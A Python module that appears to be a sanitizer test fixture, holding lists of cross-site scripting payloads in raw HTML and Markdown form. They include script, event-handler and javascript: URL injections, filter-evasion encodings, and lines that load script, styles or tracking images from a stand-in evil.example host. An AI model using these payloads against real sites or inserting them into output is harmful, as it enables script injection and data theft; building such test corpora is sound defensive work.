"""Words that try to become a program when they are shown."""

RAW = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=https://evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://ok.example" onclick="alert(1)">x</a>
<a href="https://ok.example" style="background:url(javascript:alert(1))">x</a>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=submit>
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css';</style>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<p title="--><script>alert(1)</script>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0">x</div>
"><script>alert(1)</script>
'><script>alert(1)</script>
</p></main><script>alert(1)</script>
<x onclick=alert(1)>x</x>
<keygen autofocus onfocus=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
""".strip().splitlines()

MARKDOWN = """
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](java%0ascript:alert(1))
[x](\\x01javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://ok.example/1)
[x](//evil.example/)
[x](/sign-out/)
[x](http://ok.example/)
[x](tel:123)
[x](<javascript:alert(1)>)
[x](https://ok.example/"onmouseover="alert(1))
[x](https://ok.example "title" onmouseover=alert(1))
[x](https://ok.example/?q='><script>alert(1)</script>)
[x](https://ok.example "\\"><img src=x onerror=alert(1)>")
<javascript:alert(1)>
<data:text/html,x>
![x](https://evil.example/track.png)
![x](javascript:alert(1))
![x](https://evil.example/x.png"onerror="alert(1))
[![x](x.png)](javascript:alert(1))
[x][y]\n\n[y]: javascript:alert(1)
[x][y]\n\n[y]: data:text/html,x
*[x](javascript:alert(1))*
`<script>alert(1)</script>`
# <img src=x onerror=alert(1)>
- <svg onload=alert(1)>
> <script>alert(1)</script>
| <script> | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | y |
```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```
<div>\n\n**x**\n\n<script>alert(1)</script></div>
""".strip().splitlines()

PAYLOADS = [each.encode().decode("raw_unicode_escape") if "\\u" in each else each for each in RAW] + [
    each.replace("\\n", "\n").replace("\\x01", "\x01") for each in MARKDOWN
]
